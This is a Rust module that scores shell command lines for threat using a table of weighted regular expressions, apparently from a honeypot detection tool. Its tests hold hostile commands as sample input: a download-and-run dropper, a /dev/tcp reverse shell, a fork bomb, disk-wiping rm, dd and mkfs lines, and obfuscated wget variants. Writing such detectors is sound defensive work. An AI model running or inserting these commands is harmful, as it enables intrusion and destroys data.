//! The threat score of a command line: additive weights from a table operators can change.
//!
//! Each rule is a regular expression over the [normalised](crate::normalize) line (lower
//! case, quotes and escapes undone, base64 payloads decoded one level) with a weight and a
//! category. A line's score is the sum of the weights of the rules it matches, each rule
//! counted once. The default table follows MiragePot's bands: low for recon (5–10), medium
//! for privilege and account changes (10–30), high for network tools (25–40), critical for
//! destruction, reverse shells and fork bombs (60–150). Operators add rules, replace a rule by
//! giving its id, or switch one off with weight 0 (`[[detect.threat_rules]]` in the config).
//!
//! The rules are data, `data/threat.tsv`, in the [table format](crate::table) (so `@cmd(x)`
//! matches the command word `x`). Rules are matched with one [`regex::RegexSet`], so a line costs one pass however many rules
//! there are.

use regex::RegexSet;
use serde::Deserialize;

use crate::DetectError;
use crate::table;

/// One threat rule as operators write it in the config.
#[derive(Debug, Clone, PartialEq, Eq, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct ThreatRuleSpec {
    /// Stable id (`network.wget`); an id of a default rule replaces that rule.
    pub id: String,
    /// Regular expression over the normalised, lower-case line.
    pub pattern: String,
    /// Points added when the rule matches; 0 switches the rule off.
    pub weight: u32,
    /// Category (`recon`, `privilege`, `accounts`, `persistence`, `network`, `execution`,
    /// `evasion`, `miner`, `destructive`, `reverse_shell`, `fork_bomb`, or your own).
    #[serde(default = "default_category")]
    pub category: String,
}

fn default_category() -> String {
    "custom".into()
}

/// The built-in table (`data/threat.tsv`): id, category, weight, pattern.
const TABLE: &str = include_str!("../data/threat.tsv");

/// A line's threat score and the rules behind it.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct ThreatScore {
    /// The sum of the matched rules' weights.
    pub score: u32,
    /// Ids of the matched rules, in table order.
    pub rules: Vec<String>,
}

#[derive(Debug, Clone)]
struct Rule {
    id: String,
    weight: u32,
}

/// The compiled threat table.
#[derive(Debug, Clone)]
pub struct ThreatTable {
    set: RegexSet,
    rules: Vec<Rule>,
}

impl ThreatTable {
    /// The built-in table.
    pub fn builtin() -> Result<ThreatTable, DetectError> {
        ThreatTable::new(true, &[])
    }

    /// The built-in table (unless `use_defaults` is false) with `extra` rules added; an extra
    /// rule with a default's id replaces it, and weight 0 drops a rule.
    pub fn new(use_defaults: bool, extra: &[ThreatRuleSpec]) -> Result<ThreatTable, DetectError> {
        let mut specs: Vec<ThreatRuleSpec> = Vec::new();
        if use_defaults {
            for row in table::rows(TABLE, 4, "threat.tsv")? {
                let [id, category, weight, pattern] = row.as_slice() else {
                    continue;
                };
                let weight = weight.parse().map_err(|_| {
                    DetectError::Table(format!("rule {id}: weight {weight:?} is not a number"))
                })?;
                specs.push(ThreatRuleSpec {
                    id: id.clone(),
                    pattern: pattern.clone(),
                    weight,
                    category: category.clone(),
                });
            }
        }
        for spec in extra {
            if spec.id.trim().is_empty() || spec.pattern.is_empty() {
                return Err(DetectError::Table(format!(
                    "threat rule {:?}: id and pattern must not be empty",
                    spec.id
                )));
            }
            match specs.iter_mut().find(|s| s.id == spec.id) {
                Some(s) => *s = spec.clone(),
                None => specs.push(spec.clone()),
            }
        }
        specs.retain(|s| s.weight > 0);
        let mut patterns = Vec::with_capacity(specs.len());
        for spec in &specs {
            patterns.push(table::pattern(&spec.id, &spec.pattern)?);
        }
        let set = RegexSet::new(&patterns).map_err(|source| DetectError::Pattern {
            id: "threat table".into(),
            source,
        })?;
        let rules = specs
            .into_iter()
            .map(|s| Rule {
                id: s.id,
                weight: s.weight,
            })
            .collect();
        Ok(ThreatTable { set, rules })
    }

    /// Scores a [normalised](crate::normalize) line.
    pub fn score(&self, normalized: &str) -> ThreatScore {
        let mut out = ThreatScore::default();
        for i in self.set.matches(normalized).iter() {
            if let Some(rule) = self.rules.get(i) {
                out.score = out.score.saturating_add(rule.weight);
                out.rules.push(rule.id.clone());
            }
        }
        out
    }

    /// Number of rules.
    pub fn len(&self) -> usize {
        self.rules.len()
    }

    /// Whether the table has no rules.
    pub fn is_empty(&self) -> bool {
        self.rules.is_empty()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::normalize::normalize;

    fn score(line: &str) -> ThreatScore {
        ThreatTable::builtin().unwrap().score(&normalize(line).text)
    }

    #[test]
    fn recon_is_low_and_droppers_are_high() {
        let s = score("uname -a; cat /proc/cpuinfo | grep name | wc -l");
        assert_eq!(s.rules, ["recon.system", "recon.proc"]);
        assert!(s.score < 40);
        let s = score("cd /tmp; wget http://203.0.113.5/x.sh; chmod +x x.sh; ./x.sh");
        assert!(s.rules.contains(&"network.wget".to_string()), "{s:?}");
        assert!(
            s.rules.contains(&"privilege.chmod_exec".to_string()),
            "{s:?}"
        );
        assert!(s.rules.contains(&"execution.dropped".to_string()), "{s:?}");
        assert!((40..120).contains(&s.score), "{s:?}");
    }

    #[test]
    fn critical_lines_score_critical() {
        assert!(score(":(){ :|:& };:").score >= 120);
        assert!(score("bash -i >& /dev/tcp/203.0.113.5/4444 0>&1").score >= 120);
        assert!(score("rm -rf / --no-preserve-root").score >= 80);
        assert!(score("dd if=/dev/zero of=/dev/sda bs=1M").score >= 80);
        assert!(score("mkfs.ext4 /dev/sdb1").score >= 80);
    }

    #[test]
    fn obfuscation_does_not_hide_a_rule() {
        for line in [
            "w'g'et http://x/y",
            "w\\get http://x/y",
            "echo -e '\\x77\\x67\\x65\\x74' http://x/y",
            "wget${IFS}http://x/y",
            // base64 of "wget http://x/y"
            "echo d2dldCBodHRwOi8veC95 | base64 -d | sh",
        ] {
            assert!(
                score(line).rules.contains(&"network.wget".to_string()),
                "{line}: {:?}",
                score(line)
            );
        }
    }

    #[test]
    fn words_match_whole_commands_only() {
        assert_eq!(score("echo false").score, 0);
        assert_eq!(score("cat README").score, 0);
        assert!(
            score("/usr/bin/id")
                .rules
                .contains(&"recon.users".to_string())
        );
    }

    #[test]
    fn operators_replace_add_and_drop_rules() {
        let extra = vec![
            ThreatRuleSpec {
                id: "network.wget".into(),
                pattern: "@cmd(wget)".into(),
                weight: 99,
                category: "network".into(),
            },
            ThreatRuleSpec {
                id: "recon.system".into(),
                pattern: "x".into(),
                weight: 0,
                category: "recon".into(),
            },
            ThreatRuleSpec {
                id: "site.secret".into(),
                pattern: "acme-internal".into(),
                weight: 7,
                category: default_category(),
            },
        ];
        let t = ThreatTable::new(true, &extra).unwrap();
        assert_eq!(t.score("wget x").score, 99);
        assert_eq!(t.score("uname").score, 0);
        assert_eq!(t.score("ping acme-internal").score, 7);
        let bad = ThreatRuleSpec {
            id: "bad".into(),
            pattern: "(".into(),
            weight: 1,
            category: "x".into(),
        };
        let err = ThreatTable::new(true, &[bad]).unwrap_err().to_string();
        assert!(err.starts_with("rule bad: bad pattern"), "{err}");
        assert_eq!(ThreatTable::new(false, &[]).unwrap().len(), 0);
    }
}
